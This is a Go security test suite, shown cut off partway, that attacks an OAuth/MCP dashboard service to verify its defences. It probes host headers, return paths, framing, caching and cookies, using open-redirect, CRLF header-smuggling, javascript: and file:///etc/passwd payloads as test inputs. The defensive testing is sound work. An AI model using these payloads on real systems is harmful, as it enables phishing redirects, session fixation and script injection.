package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/chromedp/chromedp"
	"github.com/google/go-cmp/cmp"
	"github.com/jackc/pgx/v5"
	"golang.org/x/net/html"
	"golang.org/x/oauth2"

	"service/server/browsertest"
)

// A realm is a running program behind a proxy that ends TLS, as in production, on
// a domain of which browsers let its hosts share cookies: dash.localhost. Ada owns
// acme, bob is a member there, sam is signed in and belongs nowhere, and mallory
// owns lair and writes the pages of a sibling host, evil.
type realm struct {
	*site
	domain string // with the port
	mcp    string // origin of the MCP host
	evil   string // origin of the sibling, at another port: browsers tell neither sites nor cookies apart by it

	ada, bob, sam, mallory *browser
	token                  string // ada's, locked to acme

	turns []turn // where attacks on return paths were led

	mu     sync.Mutex
	lures  map[string]string // pages of evil, by path
	plants []string          // cookies that evil sets with each of them
	came   []string          // requests that came to the program with a cookie of ours: method, path and origin
}

// at is an address on a host below the domain.
func (r *realm) at(label, path string) string { return "https://" + label + "." + r.domain + path }

// lure gives the sibling a page, and returns its address.
func (r *realm) lure(path, page string) string {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.lures[path] = page
	return r.evil + path
}

// plant has the sibling set cookies.
func (r *realm) plant(cookies ...string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.plants = cookies
}

// visited are the requests that have come with a session since the last call.
func (r *realm) visited() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	came := r.came
	r.came = nil
	return came
}

func newRealm(t *testing.T) *realm {
	t.Helper()
	r := &realm{lures: map[string]string{}}
	front := httptest.NewUnstartedServer(nil)
	_, port, err := net.SplitHostPort(front.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	r.domain = "dash.localhost:" + port
	r.mcp = "https://" + r.domain
	r.site = startSiteOn(t, "SERVICE_BASE_URL="+r.mcp)
	r.app = r.at("app", "")
	program, err := url.Parse("http://127.0.0.1:" + r.port)
	if err != nil {
		t.Fatal(err)
	}
	quiet := log.New(io.Discard, "", 0) // browsers look at a certificate twice, and go away
	proxy := &httputil.ReverseProxy{Rewrite: func(p *httputil.ProxyRequest) {
		p.SetURL(program)
		p.Out.Host = p.In.Host
	}, ErrorLog: quiet}
	front.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if strings.Contains(req.Header.Get("Cookie"), "__Host-") {
			r.mu.Lock()
			r.came = append(r.came, strings.TrimSpace(req.Method+" "+req.URL.Path+" "+req.Header.Get("Origin")))
			r.mu.Unlock()
		}
		proxy.ServeHTTP(w, req)
	})
	front.Config.ErrorLog = quiet
	front.StartTLS()
	t.Cleanup(front.Close)
	sibling := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		defer r.mu.Unlock()
		for _, c := range r.plants {
			w.Header().Add("Set-Cookie", c)
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, r.lures[req.URL.Path]) // or the browser has gone
	}))
	sibling.Config.ErrorLog = quiet
	sibling.StartTLS()
	t.Cleanup(sibling.Close)
	_, port, err = net.SplitHostPort(sibling.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	r.evil = "https://evil.dash.localhost:" + port

	r.ada, r.bob, r.sam, r.mallory = r.browser(t), r.browser(t), r.browser(t), r.browser(t)
	r.ada.signIn(r.app+"/", "ada@example.com")
	r.ada.submit("/workspaces", url.Values{"name": {"Acme"}, "slug": {"acme"}})
	r.mallory.signIn(r.app+"/", "mallory@example.com")
	r.mallory.submit("/workspaces", url.Values{"name": {"Lair"}, "slug": {"lair"}})
	r.admin(t, "member", "add", "acme", "bob@example.com")
	r.bob.signIn(r.app+"/", "bob@example.com")
	r.sam.signIn(r.app+"/", "sam@example.com")
	r.token = r.authorize(t, r.ada, "acme")
	for path, body := range map[string]string{"notes": "# Notes\n\nkept by " + canary, "data/data.csv": "a,b\n<html><script>document.title='ran'</script>," + canary + "\n"} {
		r.publish(t, path, body)
	}
	return r
}

// browser is a browser that takes the proxy's certificate for good.
func (r *realm) browser(t *testing.T) *browser {
	t.Helper()
	b := r.site.browser(t)
	b.client.Transport.(*http.Transport).TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	return b
}

// request opens an authorization request of a new client in b.
func (r *realm) request(t *testing.T, b *browser, c *confidential) page {
	t.Helper()
	return b.get(r.mcp + "/authorize?" + url.Values{
		"response_type": {"code"}, "client_id": {c.ID}, "redirect_uri": {"http://127.0.0.1:1/callback"}, "state": {"s"},
		"code_challenge": {oauth2.S256ChallengeFromVerifier(c.verifier)}, "code_challenge_method": {"S256"},
	}.Encode())
}

func (r *realm) authorize(t *testing.T, b *browser, workspace string) (token string) {
	t.Helper()
	c := r.register(t)
	r.request(t, b, c)
	b.submit("/consent", url.Values{"workspace": {workspace}, "decision": {"allow"}})
	if b.away == nil {
		t.Fatalf("Allow led to %s (%d)", b.last.url, b.last.status)
	}
	r.redeem(t, c, b.away.Query().Get("code"))
	return c.Access
}

func (r *realm) publish(t *testing.T, path, body string) {
	t.Helper()
	args, err := json.Marshal(map[string]any{"path": path, "body": body})
	if err != nil {
		t.Fatal(err)
	}
	if text, refused := r.call(t, r.token, "publish_dashboard", string(args)).text(t); refused {
		t.Fatal(text)
	}
}

// cookies are those that b has for a host.
func (r *realm) cookies(t *testing.T, b *browser, origin string) map[string]string {
	t.Helper()
	u, err := url.Parse(origin)
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]string{}
	for _, c := range b.client.Jar.Cookies(u) {
		all[c.Name] = c.Value
	}
	return all
}

// once asks without following a redirect. Cookies are sent as given: a map of
// none sends none.
func (r *realm) once(t *testing.T, method, address string, cookies map[string]string, body io.Reader, header ...string) reply {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, address, body)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(header); i += 2 {
		req.Header.Add(header[i], header[i+1])
	}
	for name, value := range cookies {
		req.AddCookie(&http.Cookie{Name: name, Value: value})
	}
	return send(t, &http.Client{Transport: r.ada.client.Transport, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}, req)
}

// A state is all that is stored, by table.
type state map[string]string

// unwatched are the tables that change while nobody does anything that matters.
var unwatched = map[string]string{
	"river_leader":       "which process looks after the queue",
	"river_queue":        "that the queue is looked after",
	"river_client":       "which processes there are",
	"river_client_queue": "which processes there are",
	"activity":           "how often dashboards are looked at, written later",
	"rate_counter":       "how often a client has asked",
}

func (s *site) state(t *testing.T) state {
	t.Helper()
	rows, _ := s.db.Query(t.Context(), `SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`)
	tables, err := pgx.CollectRows(rows, pgx.RowTo[string])
	if err != nil || len(tables) < 25 {
		t.Fatal(tables, err)
	}
	all := state{}
	var batch pgx.Batch
	for _, table := range tables {
		if unwatched[table] != "" {
			continue
		}
		batch.Queue(`SELECT coalesce(string_agg(r::text, E'\n' ORDER BY r::text), '') FROM ` + pgx.Identifier{table}.Sanitize() + ` r`).QueryRow(func(row pgx.Row) error {
			var text string
			err := row.Scan(&text)
			all[table] = text
			return err
		})
	}
	if err := s.db.SendBatch(t.Context(), &batch).Close(); err != nil {
		t.Fatal(err)
	}
	return all
}

// unchanged fails the test if anything but the named tables is not as it was.
func (s *site) unchanged(t *testing.T, what string, before state, but ...string) {
	t.Helper()
	after := s.state(t)
	for _, table := range but {
		delete(after, table)
		before = maps.Clone(before)
		delete(before, table)
	}
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("%s changed something (-before +after):\n%s", what, diff)
	}
}

// TestAttacks has mallory, who owns a workspace and a sibling host, try what is
// told about sessions and hosts (RFC 9700, sections 4.7, 4.11, 4.13 and 4.16).
// server/web tries every form of the app, and auth every cookie and ticket.
func TestAttacks(t *testing.T) {
	t.Parallel()
	r := newRealm(t)
	for _, class := range []struct {
		name string
		run  func(*realm, *testing.T)
	}{
		{"looking at every host", (*realm).looking},
		{"other hosts' names", (*realm).hostNames},
		{"return paths", (*realm).returnPaths},
		{"frames and caches", (*realm).framesAndCaches},
		{"downloads", (*realm).downloads},
		{"tickets", (*realm).tickets},
		{"consent", (*realm).consents},
		{"forgeries in Chromium", (*realm).forgeries},
		{"tossed cookies in Chromium", (*realm).tossed},
		{"frames in Chromium", (*realm).framed},
		{"scripts and the way back in Chromium", (*realm).ran},
		{"return paths in Chromium", (*realm).turned},
		{"sessions", (*realm).sessions}, // ends them
	} {
		t.Run(class.name, func(t *testing.T) { class.run(r, t) })
	}
}

// pathsOf are the addresses of the hosts that are not the app.
func (r *realm) pathsOf() map[string][]string {
	return map[string][]string{
		r.mcp: {"/", "/mcp", "/mcp/", "/healthz", "/.well-known/oauth-authorization-server", "/.well-known/oauth-protected-resource", "/.well-known/oauth-protected-resource/mcp", "/register", "/token", "/nothing"},
		r.at("acme", ""): {
			"/", "/notes", "/notes/index.html", "/data", "/data/data.csv", "/notes?version=x", "/nothing", "/.session", "/.session?ticket=x", "/favicon.ico", "/robots.txt", "/assets/none.js", "/a/b/c", "/%2e%2e/notes",
		},
		r.at("a.b", ""):    {"/", "/notes", "/mcp"},
		r.at("mcp", ""):    {"/", "/notes"},
		r.at("nobody", ""): {"/", "/notes"},
	}
}

// looking asks for every address of the other hosts, by every method, with all
// the cookies that a browser would send from a sibling: nothing changes. The app's
// own are asked for in server/web.
func (r *realm) looking(t *testing.T) {
	r.ada.get(r.at("acme", "/notes"))
	before := r.state(t)
	for origin, paths := range r.pathsOf() {
		cookies := r.cookies(t, r.ada, origin)
		for _, path := range paths {
			for _, method := range []string{"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND"} {
				if method == "POST" && path == "/register" {
					continue // open to the world by design: it asks for no cookie
				}
				got := r.once(t, method, origin+path, cookies, strings.NewReader("slug=notes&decision=allow&grant_type=authorization_code"),
					"Content-Type", "application/x-www-form-urlencoded", "Origin", r.evil, "Sec-Fetch-Site", "same-site", "X-HTTP-Method-Override", "DELETE")
				if got.status >= 500 {
					t.Errorf("%s %s%s: %d", method, origin, path, got.status)
				}
				if method != "GET" && method != "HEAD" && strings.Contains(got.body, canary) {
					t.Errorf("%s %s%s: it answers with a page", method, origin, path)
				}
				if cors := got.header.Get("Access-Control-Allow-Origin"); cors != "" && (cors != "*" || got.header.Get("Access-Control-Allow-Credentials") != "" || origin != r.mcp) {
					t.Errorf("%s %s%s: other origins may read it: %v", method, origin, path, got.header)
				}
			}
		}
	}
	r.unchanged(t, "asking by every method", before)

	// An authorization request is kept for whoever opens it, and grants nothing.
	before = r.state(t)
	c := r.register(t)
	r.request(t, r.ada, c)
	r.unchanged(t, "opening an authorization request", before, "oauth_client", "oauth_request")
}

// raw sends bytes to the program itself and returns what comes back.
func (r *realm) raw(t *testing.T, request string) reply {
	t.Helper()
	conn, err := net.DialTimeout("tcp", "127.0.0.1:"+r.port, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(conn, strings.ReplaceAll(request, "\n", "\r\n")); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%v to\n%s", err, request)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return reply{res.StatusCode, res.Header, string(body)}
}

// hostNames calls the program by names that are not its own, with the cookies of
// a session: none opens anything that the name in the cookie's place does not, and
// no address that is made for others holds a foreign name.
func (r *realm) hostNames(t *testing.T) {
	r.ada.get(r.at("acme", "/notes"))
	app, acme := r.cookies(t, r.ada, r.app), r.cookies(t, r.ada, r.at("acme", ""))
	if app["__Host-session"] == "" || acme["__Host-host"] == "" {
		t.Fatalf("cookies %v, %v", slices.Collect(maps.Keys(app)), slices.Collect(maps.Keys(acme)))
	}
	all := "__Host-session=" + app["__Host-session"] + "; __Host-host=" + acme["__Host-host"]
	port := strings.TrimPrefix(r.domain, "dash.localhost:")
	forwarded := "X-Forwarded-Host: evil.example\nX-Forwarded-Proto: gopher\nX-Forwarded-Port: 666\nForwarded: host=evil.example;proto=gopher\nX-Original-Host: evil.example\nX-Host: evil.example\nX-Original-URL: /w/acme/settings/delete\nX-Rewrite-URL: /evil.example\nX-Forwarded-Prefix: //evil.example\n"
	own := []string{r.mcp, r.app}
	type attack struct {
		name, line, hosts string
		opens             bool // it is the name of a host that the cookies are for
	}
	for _, a := range []attack{
		{"the app", "GET /account", "Host: app." + r.domain, true},
		{"acme", "GET /notes", "Host: acme." + r.domain, true},
		{"the app in capitals", "GET /account", "Host: APP.DASH.LocalHost:" + port, true},
		{"acme in capitals", "GET /notes", "Host: ACME." + strings.ToUpper(r.domain), true},
		{"the app at another port", "GET /account", "Host: app.dash.localhost:1", true}, // browsers send cookies to every port
		{"a user before the app's label", "GET /account", "Host: evil@app." + r.domain, false},
		{"a stranger's host", "GET /account", "Host: evil.example", false},
		{"a stranger's host and a dashboard", "GET /notes", "Host: evil.example", false},
		{"a name that ends alike", "GET /account", "Host: evilapp." + r.domain, false},
		{"a name that begins alike", "GET /account", "Host: app." + r.domain + ".evil.example", false},
		{"the domain behind another", "GET /notes", "Host: acme." + r.domain + ".evil.example", false},
		{"below the app", "GET /account", "Host: x.app." + r.domain, false},
		{"below a workspace", "GET /notes", "Host: x.acme." + r.domain, false},
		{"the MCP host", "GET /account", "Host: " + r.domain, false},
		{"another workspace", "GET /notes", "Host: lair." + r.domain, false},
		{"another workspace without a name", "GET /notes", "Host: ." + r.domain, false},
		{"acme at another port", "GET /notes", "Host: acme.dash.localhost:1", false},
		{"acme without a port", "GET /notes", "Host: acme.dash.localhost", false},
		{"acme with the root's dot", "GET /notes", "Host: acme.dash.localhost.:" + port, false},
		{"an address", "GET /account", "Host: 127.0.0.1:" + port, false},
		{"an address in brackets", "GET /account", "Host: [::1]:" + port, false},
		{"an address with a zone", "GET /account", "Host: [fe80::1%25eth0]:" + port, false},
		{"brackets around the app", "GET /account", "Host: [app." + r.domain + "]", false},
		{"a user before the app", "GET /account", "Host: app." + r.domain + "@evil.example", false},
		{"a user that is the app's", "GET /account", "Host: evil.example@app." + r.domain, false},
		{"nothing", "GET /account", "Host:", false},
		{"two hosts", "GET /account", "Host: app." + r.domain + "\nHost: evil.example", false},
		{"two hosts, the other way round", "GET /account", "Host: evil.example\nHost: app." + r.domain, false},
		{"a list of hosts", "GET /account", "Host: app." + r.domain + ", evil.example", false},
		{"a tab in the host", "GET /account", "Host: app\t." + r.domain, false},
		{"a path in the host", "GET /account", "Host: app." + r.domain + "/evil", false},
		{"an absolute target elsewhere", "GET http://evil.example/account", "Host: app." + r.domain, false},
		{"an absolute target at lair", "GET http://lair." + r.domain + "/notes", "Host: acme." + r.domain, false},
		{"an absolute target and a foreign host", "GET http://app." + r.domain + "/account", "Host: evil.example", true},
		{"a target with a user", "GET http://evil.example@app." + r.domain + "/account", "Host: evil.example", true},
	} {
		got := r.raw(t, a.line+" HTTP/1.1\n"+a.hosts+"\nCookie: "+all+"\n"+forwarded+"Connection: close\n\n")
		opened := strings.Contains(got.body, "ada@example.com") || strings.Contains(got.body, canary)
		if opened != a.opens || got.status >= 500 {
			t.Errorf("%s: %d, opened %v", a.name, got.status, opened)
		}
		if leak := got.visible(); strings.Contains(leak, "evil.example") || strings.Contains(leak, "gopher") {
			t.Errorf("%s: the answer names a foreign host: %s", a.name, leak)
		}
		if to := got.header.Get("Location"); to != "" && !slices.ContainsFunc(own, func(origin string) bool { return strings.HasPrefix(to, origin+"/") }) && !strings.HasPrefix(to, "/sign-in?") {
			t.Errorf("%s: leads to %s", a.name, to)
		}
	}

	// What is made for others to open is made of the configuration.
	for _, host := range []string{"evil.example", r.domain, "app." + r.domain + ".evil.example", "x.acme." + r.domain} {
		for line, want := range map[string]string{
			"POST /mcp":  `Www-Authenticate: Bearer resource_metadata="` + r.mcp + `/.well-known/oauth-protected-resource"`,
			"POST /mcp/": `Www-Authenticate: Bearer resource_metadata="` + r.mcp + `/.well-known/oauth-protected-resource"`,
			"GET /.well-known/oauth-protected-resource":   `"resource":"` + r.mcp + `/mcp"`,
			"GET /.well-known/oauth-authorization-server": `"issuer":"` + r.mcp + `"`,
		} {
			method, _, _ := strings.Cut(line, " ")
			body := map[string]string{"POST": "Content-Length: 2\n"}[method]
			got := r.raw(t, line+" HTTP/1.1\nHost: "+host+"\n"+forwarded+body+"Connection: close\n\n"+map[string]string{"POST": "{}"}[method])
			if seen := strings.ReplaceAll(got.visible(), "\r", ""); !strings.Contains(seen, want) || strings.Contains(seen, "evil.example") {
				t.Errorf("%s of %s: %s", line, host, seen)
			}
		}
	}
	args := `{"path":"notes","body":"# Notes\n\nkept by ` + canary + `"}`
	body := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"publish_dashboard","arguments":` + args + `}}`
	got := r.raw(t, "POST /mcp HTTP/1.1\nHost: evil.example\n"+forwarded+"Authorization: Bearer "+r.token+"\nContent-Length: "+fmt.Sprint(len(body))+"\nConnection: close\n\n"+body)
	if !strings.Contains(got.body, r.at("acme", "/notes")) || strings.Contains(got.body, "evil.example") {
		t.Errorf("a published dashboard is at %s", got.body)
	}

	// A session of one workspace's host is none of another, nor of the app; and
	// names that are the service's own are nobody's workspace.
	r.mallory.get(r.at("lair", "/x"))
	lair := r.cookies(t, r.mallory, r.at("lair", ""))
	for _, label := range []string{"acme", "app"} {
		for cookie := range lair {
			for _, name := range []string{cookie, "__Host-session", "__Host-host"} {
				got := r.once(t, "GET", r.at(label, "/account"), map[string]string{name: lair[cookie]}, nil)
				if got.status != http.StatusFound || strings.Contains(got.body, "mallory") {
					t.Errorf("%s of lair, as %s at %s: %d", cookie, name, label, got.status)
				}
			}
		}
	}
	for _, slug := range []string{"app", "www", "mcp", "api", "auth", "login", "localhost", "App", "a.b", "-a", "a-", "ä", "xn--", "a_b", "", strings.Repeat("a", 64), "acme"} {
		before := r.state(t)
		r.mallory.get(r.app + "/workspaces/new")
		if got := r.mallory.submit("/workspaces", url.Values{"name": {"Mine"}, "slug": {slug}}); slug == "" || slug == "xn--" {
			continue // one is made of the name; and xn-- ends in a hyphen
		} else if got.status != http.StatusUnprocessableEntity {
			t.Errorf("workspace %s: %d", slug, got.status)
		}
		r.unchanged(t, "workspace "+slug, before)
	}
}

// astray are return paths that lead elsewhere in some reader's eyes.
func (r *realm) astray() []string {
	return []string{
		"https://evil.example/", "http://evil.example", "//evil.example/", "///evil.example/", "////evil.example/", `/\evil.example/`, `\/evil.example/`, `\\evil.example/`,
		`/\/evil.example/`, `//\evil.example/`, "/%2f%2fevil.example/", "%2f%2fevil.example/", "/%5cevil.example/", "/%09/evil.example/", "/\t/evil.example/", "/\n/evil.example/", "/\r/evil.example/", "\t//evil.example/", " //evil.example/",
		"\x01//evil.example/", "/\x0b/evil.example/", "/\x00/evil.example/", "//evil.example\x00.localhost/", "@evil.example/", ".evil.example/", ":80@evil.example/", "//app." + r.domain + "@evil.example/", "https://app." + r.domain + "@evil.example/",
		"／／evil.example/", "/／evil.example/", "//evil。example/", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "blob:x", "file:///etc/passwd",
		"/..//evil.example/", "/.//evil.example/", "/x/..//evil.example/", "/x/../..//evil.example/", "/./\\evil.example/", "/w/acme/..//..//evil.example/", "/;//evil.example/", "/?//evil.example/", "/#//evil.example/",
		r.at("lair", "/"), "//lair." + r.domain + "/", "//app." + r.domain + "/", "//app.dash.localhost:1/", "https://app.dash.localhost:1/", r.app + "/", "/\r\nLocation: https://evil.example/", "/\r\nSet-Cookie: __Host-session=x", "/%0d%0aSet-Cookie:x=1",
		"/" + strings.Repeat("a", 40_000), "/\xff\xfe", "/\u2028//evil.example/", "?//evil.example/", "#//evil.example/", "evil.example", "",
	}
}

// A turn is where an attack was led.
type turn struct{ by, from, base, location string }

// returnPaths gives every parameter that carries a way back what leads elsewhere.
// What
// Chromium makes of the answers is asked in another test.
func (r *realm) returnPaths(t *testing.T) {
	led := func(by, from string, p reply) {
		t.Helper()
		if p.status == http.StatusBadRequest && p.header.Get("Location") == "" && (strings.Contains(from, "\x00") || !utf8.ValidString(from)) {
			return // it is no text
		}
		if p.status != http.StatusSeeOther && p.status != http.StatusFound && p.status != http.StatusMovedPermanently {
			t.Errorf("%s with %q: %d", by, from, p.status)
			return
		}
		if len(p.header.Values("Location")) != 1 || p.header.Get("Set-Cookie") == "__Host-session=x" {
			t.Errorf("%s with %q: %v", by, from, p.header)
		}
		r.turns = append(r.turns, turn{by, from, r.app + "/", p.header.Get("Location")})
	}
	form := []string{"Content-Type", "application/x-www-form-urlencoded", "Origin", r.app, "Sec-Fetch-Site", "same-origin"}
	signedIn := r.cookies(t, r.mallory, r.app)
	for _, to := range r.astray() {
		// Through the identity provider and back.
		b := r.browser(t)
		p := b.get(r.app + "/sign-in?return_to=" + url.QueryEscape(to))
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, p.url.String(), strings.NewReader("email=sam@example.com"))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		back := send(t, &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}, req)
		led("sign-in", to, r.once(t, "GET", back.header.Get("Location"), r.cookies(t, b, r.app), nil))

		led("sign-out", to, r.once(t, "POST", r.app+"/sign-out", nil, strings.NewReader(url.Values{"return_to": {to}}.Encode()), form...))
		led("theme", to, r.once(t, "POST", r.app+"/theme", nil, strings.NewReader(url.Values{"theme": {"dark"}, "return_to": {to}}.Encode()), form...))
		led("a new workspace", to, r.once(t, "POST", r.app+"/workspaces", signedIn, strings.NewReader(url.Values{"name": {"Den"}, "slug": {"den"}, "return_to": {to}}.Encode()), form...))
		r.exec(t, `DELETE FROM workspace WHERE slug = 'den'`)

		// A visit leads to hosts of workspaces, and from there to themselves.
		got := r.once(t, "GET", r.app+"/visit?nonce="+strings.Repeat("A", 43)+"&to="+url.QueryEscape(to), signedIn, nil)
		if to == r.at("lair", "/") {
			continue // which is one
		}
		if got.status != http.StatusBadRequest || got.header.Get("Location") != "" || strings.Contains(got.body, "evil.example") {
			t.Errorf("a visit to %q: %d to %s", to, got.status, got.header.Get("Location"))
		}
	}
	// The page that a form was sent from, of which a signed-out person is offered
	// the way back to.
	for _, from := range []string{r.app + "//evil.example/", r.app + "/\\evil.example/", "https://evil.example/", r.app + "@evil.example/", "//app." + r.domain + "//evil.example", r.app + "/%2f/evil.example/"} {
		got := r.once(t, "POST", r.app+"/account/timezone", nil, strings.NewReader("timezone=UTC"), append([]string{"Referer", from}, form...)...)
		link := regexp.MustCompile(`href="(/sign-in\?return_to=[^"]*)"`).FindStringSubmatch(got.body)
		if got.status != http.StatusForbidden || link == nil {
			t.Errorf("signed out, from %s: %d", from, got.status)
			continue
		}
		u, err := url.Parse(html.UnescapeString(link[1]))
		if err != nil {
			t.Fatal(err)
		}
		b := r.browser(t)
		b.signIn(r.app+u.RequestURI(), "sam@example.com")
		if host := b.last.url.Host; host != "app."+r.domain {
			t.Errorf("signed out, from %s, and back at %s", from, b.last.url)
		}
	}
	// Addresses themselves, on the app and on a workspace's host.
	for label, paths := range map[string][]string{
		"app":  {"//evil.example/", "//evil.example/%2e%2e", "//evil.example/w/lair", `/\evil.example/`, "/w//evil.example", "/w/lair", "/connect/", "/w/lair/..//evil.example"},
		"lair": {"//evil.example/", "//evil.example/%2e%2e", `/%5cevil.example/`, "/", "//evil.example/index.html"},
	} {
		for _, path := range paths {
			for who, cookies := range map[string]map[string]string{"signed out": nil, "signed in": r.cookies(t, r.mallory, r.at(label, ""))} {
				line := "GET " + strings.ReplaceAll(path, `\`, "%5c")
				cookie := ""
				for name, value := range cookies {
					cookie += name + "=" + value + "; "
				}
				got := r.raw(t, line+" HTTP/1.1\nHost: "+label+"."+r.domain+"\nCookie: "+strings.TrimSuffix(cookie, "; ")+"\nConnection: close\n\n")
				if to := got.header.Get("Location"); to != "" {
					r.turns = append(r.turns, turn{who + " at " + label, path, r.at(label, "/"), to})
				}
				if strings.Contains(got.body, `href="//`) || strings.Contains(got.body, `value="//`) && !strings.Contains(got.body, `name="return_to"`) {
					t.Errorf("%s, %s%s: the page leads away", who, label, path)
				}
			}
		}
	}
	// And a whole visit to a path that looks like an address.
	b := r.browser(t)
	b.signIn(r.at("lair", "//evil.example/x?y=//evil.example"), "mallory@example.com")
	if at := b.last.url; at.Host != "lair."+r.domain || !strings.HasPrefix(at.Path, "//evil.example") {
		t.Errorf("a visit ended at %s", at)
	}
	own := []string{r.mcp, r.app, r.at("lair", "")}
	for _, turn := range r.turns {
		base, err := url.Parse(turn.base)
		if err != nil {
			t.Fatal(err)
		}
		to, err := base.Parse(turn.location)
		if err != nil || !slices.Contains(own, to.Scheme+"://"+to.Host) || strings.ContainsFunc(turn.location, func(c rune) bool { return c <= ' ' || c == 0x7f || c == '\\' }) {
			t.Errorf("%s with %.80q leads to %.200q", turn.by, turn.from, turn.location)
		}
	}
}

// framesAndCaches walks through all that ada can open, and through what is
// answered to mistakes: nothing can be framed, and nothing of hers is kept where
// others read it.
func (r *realm) framesAndCaches(t *testing.T) {
	check := func(what string, status int, header http.Header, body string) {
		t.Helper()
		if policy := header.Get("Content-Security-Policy"); !strings.Contains(policy, "frame-ancestors 'none'") || header.Get("X-Frame-Options") != "DENY" || header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %d without protection: %v", what, status, header)
		}
		caching := header.Get("Cache-Control")
		public := strings.HasPrefix(caching, "public, max-age=")
		if !strings.Contains(caching, "no-store") && !strings.HasPrefix(caching, "private, no-cache") && !public {
			t.Errorf("%s: %d, Cache-Control: %s", what, status, caching)
		}
		if public && (len(header["Set-Cookie"]) > 0 || strings.Contains(body, "ada@") || strings.Contains(body, canary) || strings.HasPrefix(header.Get("Content-Type"), "text/html")) {
			t.Errorf("%s: anybody may keep it", what)
		}
	}
	queue := []string{r.app + "/", r.app + "/connect", r.app + "/workspaces/new", r.at("acme", "/notes"), r.at("acme", "/data"), r.at("acme", "/data/data.csv")}
	seen := map[string]bool{}
	for len(queue) > 0 {
		address := queue[0]
		queue = queue[1:]
		if seen[address] {
			continue
		}
		seen[address] = true
		p := r.ada.get(address)
		check(address, p.status, p.header, p.text)
		if !strings.HasPrefix(p.header.Get("Content-Type"), "text/html") {
			continue
		}
		doc, err := html.Parse(strings.NewReader(p.text))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			link := attr(n, "href")
			if link == "" {
				link = attr(n, "src")
			}
			to, err := p.url.Parse(link)
			if err != nil {
				t.Fatal(err)
			}
			to.Fragment = ""
			if link != "" && strings.HasSuffix(to.Host, r.domain) && to.Path != "/sign-in" {
				queue = append(queue, to.String())
			}
		}
	}
	if len(seen) < 25 {
		t.Errorf("only %d addresses were found: %v", len(seen), slices.Sorted(maps.Keys(seen)))
	}
	consent := r.request(t, r.ada, r.register(t))
	check("consent", consent.status, consent.header, consent.text)

	statuses := map[int]bool{}
	long := strings.Repeat("x", 70_000)
	for _, m := range []struct{ method, address, body, site string }{
		{"GET", r.app + "/nothing", "", ""},
		{"GET", r.app + "/w/lair/", "", ""},
		{"GET", r.app + "/visit", "", ""},
		{"GET", r.app + "/sign-in/callback", "", ""},
		{"GET", r.app + "/consent?request=x", "", ""},
		{"GET", r.app + "/invitations?token=x", "", ""},
		{"GET", r.app + "/sign-in", "", ""},
		{"GET", r.app + "/w/acme", "", ""},
		{"DELETE", r.app + "/", "", ""},
		{"GET", r.app + "/sign-out", "", ""},
		{"GET", r.app + "/theme", "", ""},
		{"PROPFIND", r.app + "/nothing", "", ""},
		{"POST", r.app + "/theme", "", "cross-site"},
		{"POST", r.app + "/sign-out", "", "cross-site"},
		{"POST", r.app + "/theme", long, "same-origin"},
		{"POST", r.app + "/account/timezone", "timezone=Mars", "same-origin"},
		{"POST", r.app + "/account/timezone", "timezone=%zz", "same-origin"},
		{"POST", r.app + "/consent", "request=x&decision=allow", "same-origin"},
		{"POST", r.app + "/w/acme/uploads", "x", "same-origin"},
		{"POST", r.app + "/w/acme/settings/delete", "slug=x", "same-origin"},
		{"GET", r.at("acme", "/nothing"), "", ""},
		{"GET", r.at("acme", "/notes?version=x"), "", ""},
		{"GET", r.at("nobody", "/"), "", ""},
		{"GET", r.at("acme", "/.session"), "", ""},
		{"GET", r.at("acme", "/.session?ticket=x"), "", ""},
		{"POST", r.at("acme", "/notes"), "", ""},
		{"PUT", r.at("acme", "/"), "", ""},
		{"GET", r.at("acme", "/"), "", ""},
		{"GET", r.at("acme", "/notes"), "", "same-origin"},
		{"GET", r.mcp + "/", "", ""},
		{"GET", r.mcp + "/mcp", "", ""},
		{"POST", r.mcp + "/mcp", "{}", ""},
		{"GET", r.mcp + "/authorize", "", ""},
		{"GET", r.mcp + "/authorize?client_id=00000000-0000-0000-0000-000000000000", "", ""},
		{"POST", r.mcp + "/authorize", "", ""},
		{"GET", r.mcp + "/healthz", "", ""},
		{"POST", r.mcp + "/token", "", ""},
		{"POST", r.mcp + "/token", long, ""},
		{"POST", r.mcp + "/register", "{}", ""},
